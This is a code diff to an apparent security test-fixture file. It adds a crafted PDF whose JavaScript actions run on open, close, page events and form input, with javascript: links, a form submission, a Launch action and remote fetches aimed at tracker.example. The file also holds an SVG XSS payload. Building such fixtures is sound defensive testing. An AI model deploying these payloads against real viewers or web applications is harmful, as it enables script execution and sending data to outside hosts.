@@ -1,3 +1,5 @@
+import { pdfOf, pdfText } from './pdf.ts';
+
 /**
  * What strangers write to have their code run by who reads it. Each sets `xss`, asks with a dialog, or leaves an element or
  * attribute behind where text is read as markup. At most 100 characters each, as names are.
@@ -122,3 +124,23 @@ export const terminalAttacks = payloads
 /** A drawing that would run and load. */
 export const drawingAttack =
   '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.xss=1"><script>parent.xss=1;alert(1)</script><image href="https://tracker.example/p.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>';
+
+const runs = `/S /JavaScript /JS ${pdfText('xss=1;parent.xss=1;app.alert("xss");this.submitForm("https://tracker.example/js")')}`;
+
+/** A PDF that would run when it is opened, turned, typed in or left, follow links, send a form and fetch what it is made of. */
+export const pdfAttack = pdfOf([payloads, payloads.slice(0, 5)], {
+  catalogue: `/OpenAction << ${runs} >> /AA << /WC << ${runs} >> /WS << ${runs} >> >>
+    /Names << /JavaScript << /Names [(a) << ${runs} >>] >> >>
+    /AcroForm << /Fields [7 0 R 8 0 R] /NeedAppearances true /CO [7 0 R] >>`,
+  page: `/AA << /O << ${runs} >> /C << ${runs} >> >> /Annots [5 0 R 6 0 R 7 0 R 8 0 R 9 0 R]`,
+  objects: [
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://tracker.example/link) >> >>',
+    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (typed) /V ${pdfText(payloads[11]!)} /Rect [50 50 400 80]
+       /DA (/F 11 Tf) /AA << /K << ${runs} >> /F << ${runs} >> /Fo << ${runs} >> >> >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 595 842] /MK << /CA (Send) >>
+       /A << /S /SubmitForm /F << /FS /URL /F (https://tracker.example/form) >> >> >>`,
+    `<< /Type /Annot /Subtype /Screen /Rect [50 90 400 120] /A << /S /Launch /F (https://tracker.example/launch)
+       /Next << /S /GoToR /F << /FS /URL /F (https://tracker.example/far.pdf) >> /D [0 /Fit] >> >> >>`,
+  ],
+});
